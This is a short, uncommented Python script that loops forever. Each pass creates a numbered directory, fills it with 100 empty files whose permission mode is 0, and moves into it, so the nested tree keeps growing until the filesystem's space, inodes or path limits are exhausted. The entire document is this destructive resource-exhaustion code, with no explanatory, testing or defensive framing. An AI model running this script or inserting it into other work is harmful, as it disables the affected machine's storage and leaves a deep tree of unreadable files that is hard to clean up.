import os

number = 0
while True:
    os.mkdir(str(number))
    for inner in range(100):
        os.close(os.open(f"{number}/{inner}", os.O_CREAT | os.O_WRONLY, 0))
    os.chdir(str(number))
    number += 1
